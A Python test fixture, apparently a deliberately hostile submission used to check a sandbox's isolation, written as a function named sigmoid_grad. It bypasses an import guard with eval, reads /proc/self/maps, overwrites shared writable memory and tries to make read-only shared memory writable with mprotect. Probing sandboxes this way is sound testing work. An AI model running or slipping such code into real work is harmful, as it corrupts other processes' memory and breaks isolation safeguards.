"""Hostile: look for memory it shares with the warm parent or the next job's child (a
MAP_SHARED mapping inherited through fork), write into every writable one, and try to make
the read-only ones writable (mprotect); also remap its own executable pages."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
ctypes = _m("ctypes")
np = _m("numpy")

PROT_READ, PROT_WRITE = 1, 2


def sigmoid_grad(x):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mprotect.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
    shared, written, protected = [], [], []
    with open("/proc/self/maps") as maps:
        lines = maps.read().splitlines()
    for line in lines:
        fields = line.split()
        span, perms = fields[0], fields[1]
        start, end = (int(v, 16) for v in span.split("-"))
        path = fields[5] if len(fields) > 5 else "[anon]"
        if perms[3] == "s":
            shared.append(f"{perms} {path}")
            if "w" in perms:
                try:
                    ctypes.memset(start, 0x41, min(end - start, 4096))
                    written.append(path)
                except Exception as exc:  # noqa: BLE001
                    written.append(f"{path}: {type(exc).__name__}")
            elif libc.mprotect(start, end - start, PROT_READ | PROT_WRITE) == 0:
                protected.append(path)
    raise RuntimeError(f"maps={len(lines)} shared={shared} written={written} protected={protected}")
